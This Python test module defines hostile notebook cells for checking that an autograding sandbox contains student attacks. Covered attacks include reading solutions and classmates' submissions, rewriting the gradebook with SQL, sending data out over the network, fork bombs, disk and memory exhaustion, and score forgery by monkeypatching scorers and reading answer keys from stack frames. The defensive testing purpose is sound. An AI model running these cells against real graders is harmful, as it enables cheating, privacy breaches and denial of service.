"""Hostile submissions: a perfect quiz plus one cell of code that attacks the grader.

Each attack is what a student could put in an answer notebook to read the answers, change
grades or harm the instructor's machine at autograde. The sandbox tests grade them and check
that grades, the gradebook and the course files are unchanged and that the grade export names
what the code tried. ``{course}``, ``{exchange}``, ``{quiz}``, ``{victim}`` and ``{port}`` are
filled in with the real paths of the class (the strongest case: a student who guessed them).

    for attack in ATTACKS.values():
        files = attack.submission(quiz, released, course=..., exchange=..., victim=..., port=...)
"""

import textwrap
from dataclasses import dataclass

import nbformat

from painlab.devtools.synthetic import Builder


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    where: str  # "first": before every answer; "after-test": after the first test; "last"
    reason: tuple[str, ...]  # words the export's reason must contain (any one of them; none:
    # an attempt without effect that need not be named)
    description: str

    def cell_source(self, **places) -> str:
        return textwrap.dedent(self.code).strip().format(**places) + "\n"

    base = "perfect"  # the submission the attack cell is added to

    def submission(self, quiz, released, **places) -> dict[str, bytes]:
        builder = Builder(quiz, released)
        nb = builder.perfect() if self.base == "perfect" else builder.fresh()
        cell = nbformat.v4.new_code_cell(self.cell_source(quiz=quiz.name, **places))
        if self.where == "first":
            position = 0
        elif self.where == "after-setup":  # after the locked set-up cell's imports
            position = builder.index(nb, "setup") + 1
        elif self.where == "after-test":
            position = builder.index(nb, quiz.auto_questions[0].grade_id) + 1
        else:
            position = len(nb.cells)
        nb.cells.insert(position, cell)
        return builder.files(nb)


_WALK_UP = """
import glob, pathlib
here = pathlib.Path.cwd()
"""

ATTACKS = {a.name: a for a in [
    Attack("read-source", _WALK_UP + """
found = []
for parent in [here, *here.parents]:
    found += glob.glob(str(parent / "source" / "*" / "*.ipynb"))
    found += glob.glob(str(parent / "*" / "source" / "*" / "*.ipynb"))
found += glob.glob("{course}/source/*/*.ipynb")
for path in found:
    print(open(path).read())
try:
    print(open("{course}/source/{quiz}/{quiz}.ipynb").read())
except OSError as problem:
    print("no source:", problem)
""", "first", ("read files outside", "list folders outside"),
           "walks up from its folder and reads every source notebook (solutions, hidden tests)"),
    Attack("read-others", _WALK_UP + """
import json
for pattern in ["{course}/submitted/*/*/*.ipynb", "{course}/graded/*/*/*.ipynb",
                "{exchange}/*/inbound/*/*.ipynb"]:
    for path in glob.glob(pattern):
        text = open(path).read()
        if "BEGIN HIDDEN TESTS" in text or "score_" in text:
            print(path, text)
try:
    print(open("{course}/submitted/{victim}/{quiz}/{quiz}.ipynb").read())
except OSError as problem:
    print("no other student:", problem)
""", "first", ("read files outside", "list folders outside"),
           "reads other students' submitted and graded notebooks"),
    Attack("read-history", """
print(In)
print(repr(_ih))
import inspect, sys
print([inspect.getsource(f) for f in sys.modules["__main__"].__dict__.values()
       if inspect.isfunction(f)])
""", "after-test", (),
           "prints the kernel's input history (scored apart, the test cells ran there without "
           "their hidden tests, so it holds none; nothing to name)"),
    Attack("write-gradebook", _WALK_UP + """
import sqlite3
paths = [str(p / "gradebook.db") for p in here.parents] + ["{course}/gradebook.db"]
for path in paths:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = max_score * 10")
        db.execute("UPDATE submitted_assignment SET extension = '1 day'")
        db.commit()
        print("changed", path)
    except Exception as problem:
        print("no gradebook at", path, problem)
""", "first", ("open a database",), "gives itself extra credit with SQL on gradebook.db"),
    Attack("write-course", """
import os
targets = ["{course}/release/{quiz}/{quiz}.ipynb", "{course}/source/{quiz}/{quiz}.ipynb",
           "{course}/submitted/{victim}/{quiz}/{quiz}.ipynb", "{course}/nbgrader_config.py",
           "{exchange}/refractory-pain/outbound/{quiz}/{quiz}.ipynb",
           "{exchange}/refractory-pain/inbound/planted.ipynb", "planted.txt"]
for target in targets:
    try:
        with open(target, "w") as out:
            out.write("{{}}")
        print("wrote", target)
    except OSError as problem:
        print("could not write", target, problem)
try:
    os.remove("{course}/gradebook.db")
except OSError as problem:
    print("could not remove the gradebook", problem)
""", "first", ("write files outside",),
           "overwrites release/, the source, another student's submission and the exchange"),
    Attack("network", """
import socket, urllib.request
for address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"answers")
        print("connected to", address)
    except OSError as problem:
        print("no network to", address, problem)
try:
    urllib.request.urlopen("http://example.org/", timeout=2)
except Exception as problem:
    print("no web:", problem)
""", "first", ("use the network",), "sends data to a server on the instructor's machine and out"),
    Attack("fork-bomb", """
import os, time
children = 0
try:
    while children < 100_000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as problem:
    print(children, "processes, then:", problem)
""", "first", ("start processes",), "forks until the machine runs out of processes"),
    Attack("memory", """
hog = bytearray(16 * 2**30)
""", "first", ("MemoryError",), "allocates 16 GB"),
    Attack("disk-fill", """
import os
for folder in [".", "/tmp", os.path.expanduser("~"), "{course}"]:
    for number in range(200):
        try:
            with open(os.path.join(folder, "fill%d.bin" % number), "wb") as out:
                out.write(b"0" * (64 * 2**20))
        except OSError as problem:
            print(folder, number, problem)
            if number > 10 or "File too large" not in str(problem):
                break
""", "first", ("write files outside",), "writes gigabytes into its folder, /tmp, home and the course"),
    Attack("never-answers", """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""", "last", ("stopped answering",), "ignores the interrupt and loops forever"),
    Attack("stops-itself", """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
""", "last", ("stopped answering",), "stops its own kernel, which then never answers"),
]}


# --- forgeries: a blank (or wrong) quiz that makes the tests report marks it did not earn ----
# Each one is placed first in a blank submission, so every mark it gets is forged. The
# strongest case again: the student knows the quiz's scorer names and how nbgrader reads a
# test cell (an error scores 0; no output, or an output that is not a number, scores full).

_EVERY_CHECK = ("check_verdicts", "check_choice", "check_choices", "check_labelled",
                "check_number", "check_label")

class Forgery(Attack):
    """An attack on the score itself, added to a blank submission (its code is not a template:
    it needs no paths)."""

    base = "blank"

    def cell_source(self, **places) -> str:
        return textwrap.dedent(self.code).strip() + "\n"


FORGERIES = {a.name: a for a in [
    Forgery("patch-scorer", """
import painlab.answers, painlab.quiz
def full(*args, points=None, **kwargs):
    return points if points is not None else args[-1]
def fine(*args, **kwargs):
    return None
for module in (painlab.answers, painlab.quiz):
    for name in dir(module):
        if name.startswith("score_"):
            setattr(module, name, full)
        elif name.startswith("check_"):
            setattr(module, name, fine)
""", "first", ("tampered", "differ"),
           "replaces every scorer and check in painlab.answers and painlab.quiz"),
    Forgery("fake-module", """
import sys, types
fake = types.ModuleType("painlab.quiz")
def full(*args, points=None, **kwargs):
    return points if points is not None else args[-1]
for name in ("score_verdicts", "score_labelled", "score_choices", "score_number"):
    setattr(fake, name, full)
fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
sys.modules["painlab.quiz"] = fake
""" + "\n".join(f"{name} = lambda *args, **kwargs: None" for name in _EVERY_CHECK), "first",
           ("tampered", "differ"),
           "puts a fake painlab.quiz in sys.modules and shadows the checks with globals"),
    Forgery("shadow-names", """
import builtins, math
builtins.round = lambda *args, **kwargs: -1
math.isclose = lambda *args, **kwargs: True
""" + "\n".join(f"{name} = lambda *args, **kwargs: None" for name in _EVERY_CHECK),
            "after-setup",
           ("tampered", "differ"),
           "globals shadow the checks; builtins the scorers use return -1 (nbgrader: full)"),
    Forgery("displayhook", """
import sys
ip = get_ipython()
class Shown:
    def __repr__(self):
        return "full marks"
original = type(ip.displayhook).__call__
type(ip.displayhook).__call__ = lambda self, result=None: original(self, Shown())
sys.displayhook = ip.displayhook
""" + "\n".join(f"{name} = lambda *args, **kwargs: None" for name in _EVERY_CHECK),
            "after-setup",
           ("tampered", "differ"),
           "every shown value becomes text nbgrader cannot read as a number (full credit)"),
    Forgery("print", """
import builtins
builtins.print = lambda *args, **kwargs: None
""", "first", ("tampered",), "silences print (no effect on scores: nothing here prints them)"),
    Forgery("excepthook", """
import sys
sys.excepthook = lambda *args: None
""", "first", (), "silences sys.excepthook (IPython does not use it for cells: no effect, "
           "and not named)"),
    Forgery("custom-exc", """
import sys
def swallow(shell, etype, value, tb, tb_offset=None):
    frame = sys._getframe()
    while frame is not None:
        result = frame.f_locals.get("result")
        if hasattr(result, "error_in_exec"):
            result.error_in_exec = None
        frame = frame.f_back
    return []
get_ipython().set_custom_exc((BaseException,), swallow)
""", "first", ("tampered", "differ"),
           "an IPython custom exception handler swallows every failed test (no output: full)"),
    Forgery("sly-answers", """
import sys
def _context():
    frame = sys._getframe(2)
    for _ in range(4):
        if frame is None:
            break
        local = frame.f_locals
        if isinstance(local.get("entry"), dict) and "accept" in local["entry"]:
            accept = local["entry"]["accept"]
            return max(accept, key=accept.get)
        for name in ("labels", "correct", "options"):
            if isinstance(local.get(name), (set, frozenset, list, tuple)) and local[name]:
                return sorted(local[name], key=str)[0]
        frame = frame.f_back
    return None
class Sly(str):
    fixed = None
    def strip(self, *args):
        return self
    def lower(self):
        return self.fixed or _context() or "x"
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class SlyNumber(float):
    def __float__(self):
        target = sys._getframe(1).f_locals.get("target")
        return float.__float__(float(target)) if target is not None else 1.0
class SlySet(list):
    def __iter__(self):
        frame = sys._getframe(1)
        for _ in range(3):
            correct = frame.f_locals.get("correct")
            if isinstance(correct, set):
                picked = []
                for label in sorted(correct):
                    item = Sly(label)
                    item.fixed = label
                    picked.append(item)
                return iter(picked)
            frame = frame.f_back
        return iter([Sly("a")])
class SlyDict(dict):
    def get(self, key, default=None):
        return Sly("")
    def __getitem__(self, key):
        return Sly("")
    def values(self):
        return [Sly("") for _ in self]
import re
KINDS = {"choices": lambda value: SlySet([0]), "number": lambda value: SlyNumber(0),
         "choice": lambda value: Sly(""), "label": lambda value: Sly(""),
         "labelled": SlyDict, "verdicts": SlyDict}
def swap(info):
    names = get_ipython().user_ns
    for kind, name in re.findall(r"check_(\\w+)\\((\\w+)", info.raw_cell or ""):
        if kind in KINDS and name in names:
            names[name] = KINDS[kind](names[name])
get_ipython().events.register("pre_run_cell", swap)
""", "first", ("tampered", "differ"),
           "answer objects (str, float, dict and list subclasses) that read the answer key "
           "from the scorer's frame and compare equal to anything"),
]}
